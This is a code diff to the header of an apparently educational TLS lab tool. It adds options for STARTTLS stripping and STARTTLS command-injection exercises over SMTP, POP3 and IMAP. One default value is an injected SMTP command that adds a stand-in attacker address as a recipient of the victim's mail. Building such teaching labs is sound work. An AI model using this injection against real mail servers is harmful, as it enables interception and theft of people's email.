@@ -29,6 +29,11 @@ struct LabArgs {
   bool keyUpdate = false;            // handshake/resumption --tls 1.3: a KeyUpdate after the first answer
   bool renegotiate = false;          // handshake --tls 1.2: a renegotiation after the first answer
   std::string antiReplay;            // replay: "on", "off" or "" (both servers, one after the other)
+  std::string protocol = "smtp";     // starttls: smtp, pop3 or imap
+  std::string client;                // starttls-strip: one victim ("" = all)
+  std::string server;                // starttls-inject: buggy or fixed ("" = both)
+  std::string subject = "Subject: quarterly payroll";  // starttls-strip/inject: the victim's mail (yours with --student)
+  std::string injected = "RCPT TO:<eve@attacker32.com>";  // starttls-inject: the attacker's command
   long offset = -1;                  // tamper flip-byte: which byte
   std::string mask = "0x01";         // tamper flip-byte: which bits
   bool netns = false;  // mitm: victim, attacker and server in network namespaces (root)
@@ -40,6 +45,10 @@ struct LabArgs {
 
 // `tlslab lab run tamper`: narrated, then judged (scenarios::TamperVerdict).
 int runTamperLab(const LabArgs& args);
+
+// `tlslab lab run starttls-strip` and `starttls-inject` (lab_starttls.cpp).
+int runStripLab(const LabArgs& args);
+int runInjectLab(const LabArgs& args);
 
 // "\\r\\n" typed on the command line as CR LF (and \\t, \\\\).
 std::string unescapeArg(const std::string& text);
